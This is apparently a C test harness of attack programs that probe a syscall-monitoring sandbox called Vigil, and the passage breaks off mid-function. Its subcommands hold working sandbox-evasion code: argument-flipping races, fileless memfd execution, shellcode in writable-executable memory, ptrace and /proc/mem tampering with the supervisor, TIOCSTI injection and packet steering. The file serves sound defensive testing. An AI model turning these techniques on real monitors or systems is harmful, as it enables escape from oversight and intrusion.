// Attack programs for Vigil's sensor tests: each subcommand tries one way around the sensor
// and prints what happened, so the test can check both that the attempt failed and that its
// effect (a connection, a marker file, a shell) did not happen.
//
// Build: gcc -O1 -pthread -o attack attack.c
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/xattr.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static void report(const char *what, long ret) {
    if (ret < 0)
        printf("%s err %d %s\n", what, errno, strerror(errno));
    else
        printf("%s ok %ld\n", what, ret);
    fflush(stdout);
}

static struct sockaddr_in in4(const char *ip, int port) {
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    return a;
}

static int do_connect(const char *ip, int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = in4(ip, port);
    int r = connect(s, (struct sockaddr *)&a, sizeof a);
    int e = errno;
    if (r == 0) {
        const char *msg = "attack";
        write(s, msg, strlen(msg));
    }
    close(s);
    errno = e;
    return r;
}

// ---- races: another thread rewrites the argument after the check ----

static volatile int racing = 1;
static struct sockaddr_in race_addr;
static int race_ports[2];

static void *flip_port(void *unused) {
    (void)unused;
    unsigned i = 0;
    volatile uint16_t *port = &race_addr.sin_port;
    while (racing) *port = htons(race_ports[++i & 1]);
    return NULL;
}

static char race_path[256];
static char race_paths[2][256];

static void *flip_path(void *unused) {
    (void)unused;
    unsigned i = 0;
    volatile char *dst = race_path;
    while (racing) {
        const char *src = race_paths[++i & 1];
        for (size_t k = 0; k < sizeof race_path; k++) {
            dst[k] = src[k];
            if (!src[k]) break;
        }
    }
    return NULL;
}

static int connect_race(int allowed, int forbidden, int iters) {
    race_ports[0] = allowed;
    race_ports[1] = forbidden;
    race_addr = in4("127.0.0.1", allowed);
    pthread_t t;
    pthread_create(&t, NULL, flip_port, NULL);
    int ok = 0, denied = 0;
    for (int i = 0; i < iters; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&race_addr, sizeof race_addr) == 0) {
            write(s, "race", 4);
            ok++;
        } else if (errno == EPERM) {
            denied++;
        }
        close(s);
    }
    racing = 0;
    pthread_join(t, NULL);
    printf("connect_race ok %d denied %d\n", ok, denied);
    return 0;
}

static int open_race(const char *allowed, const char *forbidden, int iters) {
    strncpy(race_paths[0], allowed, 255);
    strncpy(race_paths[1], forbidden, 255);
    memcpy(race_path, race_paths[0], sizeof race_path);
    pthread_t t;
    pthread_create(&t, NULL, flip_path, NULL);
    int ok = 0, denied = 0;
    for (int i = 0; i < iters; i++) {
        int fd = open(race_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) {
            write(fd, "race\n", 5);
            close(fd);
            ok++;
        } else if (errno == EACCES) {
            denied++;
        }
    }
    racing = 0;
    pthread_join(t, NULL);
    printf("open_race ok %d denied %d\n", ok, denied);
    return 0;
}

// Each child starts a flipping thread and execs; the forbidden program leaves a marker.
static int exec_race(const char *allowed, const char *forbidden, int iters) {
    strncpy(race_paths[0], allowed, 255);
    strncpy(race_paths[1], forbidden, 255);
    int exited0 = 0, killed = 0, other = 0;
    for (int i = 0; i < iters; i++) {
        pid_t p = fork();
        if (p == 0) {
            memcpy(race_path, race_paths[0], sizeof race_path);
            pthread_t t;
            pthread_create(&t, NULL, flip_path, NULL);
            char *argv[] = {race_path, NULL};
            for (int k = 0; k < 50; k++) execve(race_path, argv, environ);
            _exit(111);
        }
        int st;
        waitpid(p, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) exited0++;
        else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL) killed++;
        else other++;
    }
    printf("exec_race exited0 %d killed %d other %d\n", exited0, killed, other);
    return 0;
}

// ---- executables ----

static int exec_path(char **args) {
    const char *path = args[0];
    execve(path, args, environ);
    report("execve", -1);
    return 1;
}

static int execveat_fd(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) { report("open", -1); return 1; }
    char *argv[] = {(char *)path, NULL};
    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
    report("execveat", -1);
    return 1;
}

static int memfd_exec(const char *src) {
    int mfd = syscall(SYS_memfd_create, "payload", 0);
    report("memfd_create", mfd);
    if (mfd < 0) return 1;
    int in = open(src, O_RDONLY);
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) write(mfd, buf, n);
    close(in);
    char *argv[] = {"payload", NULL};
    syscall(SYS_execveat, mfd, "", argv, environ, AT_EMPTY_PATH);
    report("execveat_memfd", -1);
    return 1;
}

static int vfork_exec(const char *path) {
    pid_t p = vfork();
    if (p == 0) {
        char *argv[] = {(char *)path, NULL};
        execve(path, argv, environ);
        _exit(errno == EACCES ? 77 : 78);
    }
    if (p < 0) { report("vfork", -1); return 1; }
    int st;
    waitpid(p, &st, 0);
    printf("vfork_exec child_status %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
    return 0;
}

// ---- executable memory ----

static const unsigned char ret42[] = {0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3}; // mov eax,42; ret

static int wx(void) {
    void *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (m == MAP_FAILED) { report("mmap_wx", -1); return 1; }
    memcpy(m, ret42, sizeof ret42);
    int r = ((int (*)(void))m)();
    printf("mmap_wx ok shellcode_returned %d\n", r);
    return 0;
}

static int mprotect_x(void) {
    void *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(m, ret42, sizeof ret42);
    if (mprotect(m, 4096, PROT_READ | PROT_EXEC) != 0) { report("mprotect_x", -1); return 1; }
    int r = ((int (*)(void))m)();
    printf("mprotect_x ok shellcode_returned %d\n", r);
    return 0;
}

// A file mapped readable, then made executable: the region could have been swapped for
// anonymous shellcode by another thread (MAP_FIXED) between the check and the kernel's change.
static int mprotect_file(const char *path) {
    int fd = open(path, O_RDONLY);
    void *m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (m == MAP_FAILED) { report("mmap_file", -1); return 1; }
    report("mprotect_file_x", mprotect(m, 4096, PROT_READ | PROT_EXEC));
    return 0;
}

// ---- other ABIs ----

static int int80(void) {
    long ret;
    // i386 getpid (20) through the 32-bit entry point.
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20) : "memory");
    printf("int80 survived %ld\n", ret);
    return 0;
}

static int x32(void) {
    long r = syscall(0x40000000 | SYS_getpid);
    printf("x32 survived %ld\n", r);
    return 0;
}

static int uring(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    report("io_uring_setup", syscall(SYS_io_uring_setup, 4, &p));
    return 0;
}

// ---- tampering with the supervisor (our parent) ----

static int tamper(void) {
    pid_t sup = getppid();
    pid_t pg = getpgid(sup);
    report("kill_supervisor", kill(sup, SIGKILL));
    report("kill_all", kill(-1, 0));
    report("kill_supervisor_group", kill(-pg, 0));
    report("tgkill", syscall(SYS_tgkill, sup, sup, SIGKILL));
    report("tkill", syscall(SYS_tkill, sup, SIGKILL));
    report("pidfd_open", syscall(SYS_pidfd_open, sup, 0));
    char p[64];
    snprintf(p, sizeof p, "/proc/%d", sup);
    int dfd = open(p, O_RDONLY | O_DIRECTORY);
    report("pidfd_send_signal_procdir", syscall(SYS_pidfd_send_signal, dfd, SIGKILL, NULL, 0));
    char buf[16];
    struct iovec l = {buf, sizeof buf}, r = {(void *)0x400000, sizeof buf};
    report("process_vm_readv", syscall(SYS_process_vm_readv, sup, &l, 1, &r, 1, 0));
    report("ptrace_attach", ptrace(PTRACE_ATTACH, sup, 0, 0));
    snprintf(p, sizeof p, "/proc/%d/mem", sup);
    report("open_supervisor_mem", open(p, O_RDWR));
    report("prctl_dumpable", prctl(PR_SET_DUMPABLE, 0, 0, 0, 0));
    report("setpgid_supervisor_group", setpgid(0, pg));
    struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog fp = {1, &allow};
    report("seccomp_listener", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &fp));
    report("personality_read_implies_exec", personality(READ_IMPLIES_EXEC));
    report("unshare_user", unshare(CLONE_NEWUSER));
    report("raw_socket", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    report("packet_socket", socket(AF_PACKET, SOCK_DGRAM, 0));
    report("open_self_mem", open("/proc/self/mem", O_RDWR));
    struct rlimit cpu = {1, 1};
    report("prlimit_supervisor", prlimit(sup, RLIMIT_CPU, &cpu, NULL));
    report("setpriority_supervisor", setpriority(PRIO_PROCESS, sup, 19));
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    report("sched_setaffinity_supervisor", sched_setaffinity(sup, sizeof set, &set));
    int pfd[2];
    pipe(pfd);
    report("fcntl_setown_supervisor", fcntl(pfd[0], F_SETOWN, sup));
    struct f_owner_ex ex = {F_OWNER_PID, sup};
    report("fcntl_setown_ex_supervisor", fcntl(pfd[0], F_SETOWN_EX, &ex));
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int who = sup;
    report("ioctl_fiosetown_supervisor", ioctl(s, FIOSETOWN, &who));
    // The same calls aimed at itself stay allowed.
    struct f_owner_ex self_ex = {F_OWNER_PID, getpid()};
    report("benign_fcntl_setown_ex_self", fcntl(pfd[0], F_SETOWN_EX, &self_ex));
    int me = getpid();
    report("benign_ioctl_fiosetown_self", ioctl(s, FIOSETOWN, &me));
    report("benign_setpriority_self", setpriority(PRIO_PROCESS, 0, 1));
    return 0;
}

// ---- signals while calls are notified: no hang, no double effect ----

static volatile sig_atomic_t alarms;
static void on_alarm(int s) { (void)s; alarms++; }

static int signals(int n, int port, const char *dir) {
    struct sigaction sa = {0};
    sa.sa_handler = on_alarm; // no SA_RESTART
    sigaction(SIGALRM, &sa, NULL);
    struct itimerval it = {{0, 200}, {0, 200}};
    setitimer(ITIMER_REAL, &it, NULL);
    int conn_ok = 0, conn_eintr = 0, conn_other = 0, open_ok = 0, open_eexist = 0, open_eintr = 0;
    for (int i = 0; i < n; i++) {
        int r = do_connect("127.0.0.1", port);
        if (r == 0) conn_ok++;
        else if (errno == EINTR) conn_eintr++;
        else conn_other++;
        char p[512];
        snprintf(p, sizeof p, "%s/f%d", dir, i);
        int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd >= 0) { open_ok++; close(fd); }
        else if (errno == EEXIST) open_eexist++;
        else if (errno == EINTR) open_eintr++;
    }
    struct itimerval off = {{0, 0}, {0, 0}};
    setitimer(ITIMER_REAL, &off, NULL);
    printf("signals conn_ok %d conn_eintr %d conn_other %d open_ok %d open_eexist %d open_eintr %d alarms %d\n",
           conn_ok, conn_eintr, conn_other, open_ok, open_eexist, open_eintr, (int)alarms);
    return 0;
}

static int wait_then_connect(const char *file, int port) {
    struct stat st;
    for (int i = 0; i < 1000 && stat(file, &st) != 0; i++) usleep(10000);
    report("connect_after_wait", do_connect("127.0.0.1", port));
    report("open_write_after_wait", open("/tmp/vigil-fail-closed-marker", O_WRONLY | O_CREAT, 0644));
    return 0;
}

// ---- regressions from the adversarial review ----

// B1: a first message without a usable address used to exempt the rest of a sendmmsg.
static int sendmmsg_skip(int allowed, int forbidden) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in ok = in4("127.0.0.1", allowed);
    connect(s, (struct sockaddr *)&ok, sizeof ok);
    struct sockaddr unspec = {0};
    unspec.sa_family = AF_UNSPEC;
    struct sockaddr_in bad = in4("127.0.0.1", forbidden);
    char m0[] = "first", m1[] = "EXFILTRATED";
    struct iovec v0 = {m0, sizeof m0 - 1}, v1 = {m1, sizeof m1 - 1};
    struct mmsghdr msgs[2];
    memset(msgs, 0, sizeof msgs);
    msgs[0].msg_hdr.msg_name = &unspec;
    msgs[0].msg_hdr.msg_namelen = sizeof unspec;
    msgs[0].msg_hdr.msg_iov = &v0;
    msgs[0].msg_hdr.msg_iovlen = 1;
    msgs[1].msg_hdr.msg_name = &bad;
    msgs[1].msg_hdr.msg_namelen = sizeof bad;
    msgs[1].msg_hdr.msg_iov = &v1;
    msgs[1].msg_hdr.msg_iovlen = 1;
    report("sendmmsg", sendmmsg(s, msgs, 2, 0));
    // AF_UNSPEC with an IPv4 body is read as AF_INET by udp_sendmsg.
    struct sockaddr_in unspec_bad = in4("127.0.0.1", forbidden);
    unspec_bad.sin_family = AF_UNSPEC;
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    report("sendto_unspec", sendto(u, "UNSPEC", 6, 0, (struct sockaddr *)&unspec_bad, sizeof unspec_bad));
    return 0;
}

// B2: a private mapping of a library, writable and executable: its copy-on-write pages run
// whatever is written into them.
static int cow_exec(const char *lib) {
    int fd = open(lib, O_RDONLY);
    void *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE, fd, 0);
    if (m == MAP_FAILED) { report("mmap_private_wx", -1); return 0; }
    memcpy(m, ret42, sizeof ret42);
    printf("mmap_private_wx ok shellcode_returned %d\n", ((int (*)(void))m)());
    return 0;
}

// B9: bind with AF_UNSPEC is read as AF_INET by inet_bind.
static int bind_unspec(int port) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = in4("0.0.0.0", port);
    a.sin_family = AF_UNSPEC;
    report("bind_unspec", bind(s, (struct sockaddr *)&a, sizeof a));
    return 0;
}

// D1: a control message length near 2^64 used to hang or crash the supervisor.
static int cmsg_overflow(void) {
    int sv[2];
    socketpair(AF_UNIX, SOCK_DGRAM, 0, sv);
    uint64_t ctl[8] = {16, 0, (uint64_t)-16, 0};
    ((int *)ctl)[2] = SOL_SOCKET;
    ((int *)ctl)[3] = 0x99;
    char data[] = "x";
    struct iovec v = {data, 1};
    struct msghdr h = {0};
    h.msg_iov = &v;
    h.msg_iovlen = 1;
    h.msg_control = ctl;
    h.msg_controllen = sizeof ctl;
    report("sendmsg_bad_cmsg", sendmsg(sv[0], &h, 0));
    report("after", do_connect("127.0.0.1", 1));
    return 0;
}

// B5: signalling a process outside the function through the supervisor.
static int deputy_signal(int victim) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d", victim);
    int dfd = open(p, O_RDONLY | O_DIRECTORY);
    report("pidfd_send_signal_outside", syscall(SYS_pidfd_send_signal, dfd, SIGKILL, NULL, 0));
    snprintf(p, sizeof p, "/proc/%d/environ", victim);
    struct { uint64_t flags, mode, resolve; } how = {O_RDONLY, 0, 0};
    report("openat2_outside_environ", syscall(SYS_openat2, AT_FDCWD, p, &how, sizeof how));
    int pfd[2];
    pipe(pfd);
    struct f_owner_ex ex = {F_OWNER_PID, victim};
    report("setown_ex_outside", fcntl(pfd[0], F_SETOWN_EX, &ex));
    return 0;
}

// D4 and B4.
static int misc_review(void) {
    report("setpriority_user", setpriority(PRIO_USER, getuid(), 19));
    char ch = 'x';
    report("tiocsti", ioctl(0, TIOCSTI, &ch));
    return 0;
}

/* Shared by the mapping races below: GOOD (listed in files.exec_map) and EVIL (not) are open,
 * and a thread swaps the descriptor mlr_fd between them until mlr_stop. */
static int mlr_good, mlr_evil, mlr_fd;
static volatile int mlr_stop;
static char mlr_poke[4096];
static void *mlr_swapper(void *a) {
    (void)a;
    while (!mlr_stop) { dup2(mlr_evil, mlr_fd); dup2(mlr_good, mlr_fd); }
    return NULL;
}
/* Opens GOOD and EVIL, and, unless DIR is NULL, first makes a watched call (creating
 * DIR/before), so that what the process owes for its own libraries is settled. */
static int mlr_open(const char *good, const char *evil, const char *dir) {
    mlr_good = open(good, O_RDONLY);
    mlr_evil = open(evil, O_RDONLY);
    if (mlr_good < 0 || mlr_evil < 0) { perror("open"); return -1; }
    mlr_fd = dup(mlr_good);
    if (dir) {
        char path[4096];
        snprintf(path, sizeof path, "%s/before", dir);
        int f = open(path, O_WRONLY | O_CREAT, 0644);
        if (f >= 0) close(f);
    }
    return 0;
}
/* Maps mlr_fd executable until EVIL is mapped (returned) or TRIES are used up (NULL);
 * *allowed counts the mappings let through. */
static void *mlr_map_evil(int tries, int *allowed) {
    for (int i = 0; i < tries; i++) {
        void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, mlr_fd, 0);
        if (p == MAP_FAILED) continue;
        if (allowed) (*allowed)++;
        if (!memcmp(p, "EVIL", 4)) return p;
        munmap(p, 4096);
    }
    return NULL;
}
/* Creates DIR/NAME, with TEXT in it when not NULL (a watched call). */
static void touch(const char *dir, const char *name, const char *text) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    int f = open(path, O_WRONLY | O_CREAT, 0644);
    if (f < 0) return;
    if (text) write(f, text, strlen(text));
    close(f);
}

/* An allowed executable mapping that lands after the supervisor's re-check of the mappings.
 * The mapping thread lowers itself to SCHED_IDLE, so once its mmap is answered it waits for a
 * CPU (two threads keep them busy); meanwhile two threads make watched calls (creating
 * DIR/poke), each of which has the supervisor read the mappings while the mmap has not
 * happened yet; another thread swaps the mapped descriptor between GOOD (listed) and EVIL
 * (not). An EVIL mapping that lands must still be caught: the process is killed at its next
 * watched call (creating DIR/after), before it writes DIR/evil-alive. Prints
 * "map_land_race ... evil mapped" when EVIL got mapped executable. */
static void *mlr_hog(void *a) {
    (void)a;
    while (!mlr_stop) {}
    return NULL;
}
static void *mlr_poker(void *a) {
    (void)a;
    while (!mlr_stop) {
        int f = open(mlr_poke, O_WRONLY | O_CREAT, 0644);
        if (f >= 0) close(f);
    }
    return NULL;
}
static int map_land_race(const char *good, const char *evil, const char *dir, int tries) {
    if (mlr_open(good, evil, NULL) < 0) return 1;
    snprintf(mlr_poke, sizeof mlr_poke, "%s/poke", dir);
    enum { hogs = 2, pokers = 2 };
    pthread_t ts, tp[pokers], th[hogs];
    pthread_create(&ts, NULL, mlr_swapper, NULL);
    for (int i = 0; i < pokers; i++) pthread_create(&tp[i], NULL, mlr_poker, NULL);
    for (int i = 0; i < hogs; i++) pthread_create(&th[i], NULL, mlr_hog, NULL);
    /* This thread only (threads created after it would inherit the policy). */
    struct sched_param sp = {0};
    if (sched_setscheduler(0, SCHED_IDLE, &sp) != 0) printf("map_land_race sched_idle err %d\n", errno);
    int allowed = 0;
    void *got = mlr_map_evil(tries, &allowed);
    mlr_stop = 1;
    pthread_join(ts, NULL);
    for (int i = 0; i < pokers; i++) pthread_join(tp[i], NULL);
    for (int i = 0; i < hogs; i++) pthread_join(th[i], NULL);
    printf("map_land_race allowed %d, evil %s\n", allowed, got ? "mapped" : "never mapped");
    fflush(stdout);
    if (!got) return 0;
    touch(dir, "after", NULL);
    touch(dir, "evil-alive", "alive\n");
    puts("map_land_race survived with evil mapped");
    return 0;
}

/* A process sharing memory with this one without being a thread of it (clone(CLONE_VM |
 * CLONE_FILES), as threads libraries did before CLONE_THREAD) races an allowed executable
 * mapping while a thread here swaps the mapped descriptor. Once EVIL is mapped, the sibling
 * only waits (no watched call), and this process, in whose memory EVIL now is too, makes a
 * watched call (creating DIR/after): it must be killed before it writes DIR/evil-alive. */
static volatile int vms_done;
static void *volatile vms_got;
/* Raw system calls only: the sibling shares this process's thread-local storage. */
static int vms_child(void *a) {
    (void)a;
    for (int i = 0; i < 200000 && !vms_got; i++) {
        long p = syscall(SYS_mmap, 0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, mlr_fd, 0);
        if (p == -1) continue;
        if (!memcmp((void *)p, "EVIL", 4)) vms_got = (void *)p;
        else syscall(SYS_munmap, p, 4096);
    }
    vms_done = 1;
    struct timespec ts = {0, 100000000};
    for (int i = 0; i < 100; i++) syscall(SYS_nanosleep, &ts, NULL);
    syscall(SYS_exit, 0);
    return 0;
}
static int vm_sibling_map(const char *good, const char *evil, const char *dir) {
    if (mlr_open(good, evil, dir) < 0) return 1;
    pthread_t ts;
    pthread_create(&ts, NULL, mlr_swapper, NULL);
    size_t size = 256 * 1024;
    char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t b = clone(vms_child, stack + size, CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
    if (b < 0) { printf("vm_sibling_map clone err %d\n", errno); return 1; }
    while (!vms_done) usleep(1000);
    mlr_stop = 1;
    pthread_join(ts, NULL);
    printf("vm_sibling_map evil %s\n", vms_got ? "mapped" : "never mapped");
    fflush(stdout);
    if (vms_got) {
        touch(dir, "after", NULL);
        touch(dir, "evil-alive", "alive\n");
        puts("vm_sibling_map survived with evil mapped");
    }
    kill(b, SIGKILL);
    waitpid(b, NULL, 0);
    return 0;
}

/* The other way round: the sibling sharing this process's memory makes a watched call first
 * (creating DIR/sibling-before: what it inherited is checked, clean), then waits. This process
 * gets EVIL mapped and is killed at its next watched call (creating DIR/after); the sibling,
 * which owes nothing of its own, then makes a watched call (creating DIR/sibling-after) and
 * writes DIR/sibling-alive: it must be killed first. */
static char vsk_dir[4096];
static volatile int vsk_ready;
static void vsk_touch(const char *name, const char *text) {
    char path[4200];
    int n = 0;
    for (const char *p = vsk_dir; *p && n < 4000; p++) path[n++] = *p;
    path[n++] = '/';
    for (const char *p = name; *p; p++) path[n++] = *p;
    path[n] = 0;
    long f = syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT, 0644);
    if (f < 0) return;
    if (text) { long len = 0; while (text[len]) len++; syscall(SYS_write, f, text, len); }
    syscall(SYS_close, f);
}
/* Raw system calls only: the sibling shares this process's thread-local storage. */
static int vsk_child(void *a) {
    (void)a;
    vsk_touch("sibling-before", NULL);
    vsk_ready = 1;
    struct timespec ts = {0, 300000000};
    syscall(SYS_nanosleep, &ts, NULL);
    vsk_touch("sibling-after", NULL);
    vsk_touch("sibling-alive", "alive\n");
    syscall(SYS_exit, 0);
    return 0;
}
static int vm_sibling_after_kill(const char *good, const char *evil, const char *dir) {
    if (mlr_open(good, evil, dir) < 0) return 1;
    snprintf(vsk_dir, sizeof vsk_dir, "%s", dir);
    size_t size = 256 * 1024;
    char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t b = clone(vsk_child, stack + size, CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
    if (b < 0) { printf("vm_sibling_after_kill clone err %d\n", errno); return 1; }
    while (!vsk_ready) usleep(1000);
    pthread_t ts;
    pthread_create(&ts, NULL, mlr_swapper, NULL);
    void *got = mlr_map_evil(200000, NULL);
    mlr_stop = 1;
    pthread_join(ts, NULL);
    printf("vm_sibling_after_kill evil %s\n", got ? "mapped" : "never mapped");
    fflush(stdout);
    touch(dir, "after", NULL);
    waitpid(b, NULL, 0);
    return 0;
}

/* An unlisted file mapped in (descriptor swapped under an allowed mapping, as in
 * map_land_race but without the starving), and this process forks at once, before any watched
 * call: the child inherits the mapping. This process is killed at its next watched call; the
 * child, which made none yet, waits a little, then makes one (creating DIR/child-after) and
 * writes DIR/child-alive: it must be killed first. */
static int fork_after_map(const char *good, const char *evil, const char *dir) {
    if (mlr_open(good, evil, dir) < 0) return 1;
    pthread_t ts;
    pthread_create(&ts, NULL, mlr_swapper, NULL);
    void *got = mlr_map_evil(200000, NULL);
    if (!got) { mlr_stop = 1; pthread_join(ts, NULL); puts("fork_after_map evil never mapped"); return 0; }
    pid_t c = fork();
    if (c == 0) {
        usleep(200000);
        touch(dir, "child-after", NULL);
        touch(dir, "child-alive", "alive\n");
        _exit(0);
    }
    printf("fork_after_map evil mapped, child %d\n", c);
    fflush(stdout);
    touch(dir, "after", NULL);
    puts("fork_after_map parent survived");
    waitpid(c, NULL, 0);
    return 0;
}

/* Socket options and control messages that send a packet elsewhere than its destination:
 * an IPv6 segment routing header (the kernel sends to the segment, not to the address the
 * sensor checked), a next hop, IPv4 options. PORT is an allowed UDP port on [::1]: each
 * steered send must fail; a plain send to it ("plain") gets through. */
static int ip_steer(int port) {
    int s6 = socket(AF_INET6, SOCK_DGRAM, 0);
    struct sockaddr_in6 dst = {0};
    dst.sin6_family = AF_INET6;
    dst.sin6_port = htons(port);
    inet_pton(AF_INET6, "::1", &dst.sin6_addr);
    /* A type-4 routing header with one segment (::1), as seg6_validate_srh wants it. */
    unsigned char srh[8 + 16] = {0};
    srh[1] = 2;  /* hdrlen: 16 bytes of segments, in 8-byte units */
    srh[2] = 4;  /* type: segment routing */
    srh[3] = 0;  /* segments left */
    srh[4] = 0;  /* last entry */
    inet_pton(AF_INET6, "::1", srh + 8);
    report("setsockopt_rthdr", setsockopt(s6, IPPROTO_IPV6, 57 /* IPV6_RTHDR */, srh, sizeof srh));
    struct sockaddr_in6 hop = dst;
    report("setsockopt_nexthop", setsockopt(s6, IPPROTO_IPV6, 9 /* IPV6_NEXTHOP */, &hop, sizeof hop));
    int s4 = socket(AF_INET, SOCK_DGRAM, 0);
    unsigned char lsrr[8] = {131, 7, 4, 127, 0, 0, 1, 0}; /* loose source route via 127.0.0.1 */
    report("setsockopt_ip_options", setsockopt(s4, IPPROTO_IP, IP_OPTIONS, lsrr, sizeof lsrr));
    char payload[] = "steered";
    struct iovec iov = {payload, sizeof payload - 1};
    union { char buf[CMSG_SPACE(sizeof srh)]; struct cmsghdr align; } u;
    memset(&u, 0, sizeof u);
    struct msghdr m = {0};
    m.msg_name = &dst;
    m.msg_namelen = sizeof dst;
    m.msg_iov = &iov;
    m.msg_iovlen = 1;
    m.msg_control = u.buf;
    m.msg_controllen = sizeof u.buf;
    struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
    cm->cmsg_level = IPPROTO_IPV6;
    cm->cmsg_type = 57; /* IPV6_RTHDR */
    cm->cmsg_len = CMSG_LEN(sizeof srh);
    memcpy(CMSG_DATA(cm), srh, sizeof srh);
    report("sendmsg_rthdr", sendmsg(s6, &m, 0));
    char plain[] = "plain";
    report("sendto_plain", sendto(s6, plain, sizeof plain - 1, 0, (struct sockaddr *)&dst, sizeof dst));
    return 0;
}

/* Another process's descriptors through /proc/PID/fd/FD: a process outside the function
 * holds a deleted file (reachable no other way). openat2 and writable opens are performed by
 * the supervisor, with its own reach; each must be refused, whichever way the path is given
 * (a path, or a /proc/PID directory fd). A control: this process's own fd, the same way. */
static int proc_fd(int pid, int fd, const char *own) {
    char path[128];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    struct { unsigned long long flags, mode, resolve; } how = {O_RDONLY, 0, 0};
    int r = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how);
    report("openat2_other", r);
    if (r >= 0) {
        char buf[64] = {0};
        if (pread(r, buf, sizeof buf - 1, 0) > 0) printf("read_other %s\n", buf);
    }
    report("open_write_other", open(path, O_WRONLY));
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d", pid);
    int d = open(dir, O_PATH | O_DIRECTORY);
    if (d < 0) {
        report("proc_dir_open", d);
    } else {
        char rel[32];
        snprintf(rel, sizeof rel, "fd/%d", fd);
        int x = syscall(SYS_openat2, d, rel, &how, sizeof how);
        report("openat2_other_dirfd", x);
        if (x >= 0) {
            char buf[64] = {0};
            if (pread(x, buf, sizeof buf - 1, 0) > 0) printf("read_other %s\n", buf);
        }
    }
    int mine = open(own, O_RDONLY);
    snprintf(path, sizeof path, "/proc/self/fd/%d", mine);
    report("openat2_own", syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
    return 0;
}

/* Device nodes where the function may write: creating one (a character device with /dev/null's
 * numbers, harmless, standing for a disk's) must be refused, and so must writing an existing
 * node (EXISTING) that a glob of files.write happens to match. */
static int device(const char *node, const char *existing) {
    report("mknod_chr", mknod(node, S_IFCHR | 0666, makedev(1, 3)));
    report("open_device_write", open(existing, O_WRONLY));
    return 0;
}

/* Scripts run by a name another thread could redirect while the kernel copies the arguments:
 * through a descriptor (execveat with AT_EMPTY_PATH: the interpreter reopens /dev/fd/N,
 * which a dup2 can point at anything) and by a relative path (the interpreter reopens it
 * against the working directory, which a chdir can move). From this process, which has a
 * second thread, both must be refused; a forked child, which has one thread, runs the
 * script by its relative path (the control), and is refused a /proc/self/cwd name. DIR holds SCRIPT (a #! script printing
 * "script ran"). */
static void *idle_thread(void *a) {
    (void)a;
    for (;;) pause();
    return NULL;
}
static int script_names(const char *dir, const char *script) {
    char rel[4096];
    snprintf(rel, sizeof rel, "./%s", script);
    char *av[] = {rel, NULL};
    if (chdir(dir) != 0) { perror("chdir"); return 1; }
    pid_t c = fork();
    if (c == 0) {
        execve(rel, av, environ);
        report("child_exec_relative", -1);
        _exit(1);
    }
    waitpid(c, NULL, 0);
    /* A /proc name, even from one thread: /proc/self/cwd/SCRIPT. */
    c = fork();
    if (c == 0) {
        char viaproc[4200];
        snprintf(viaproc, sizeof viaproc, "/proc/self/cwd/%s", script);
        char *avp[] = {viaproc, NULL};
        execve(viaproc, avp, environ);
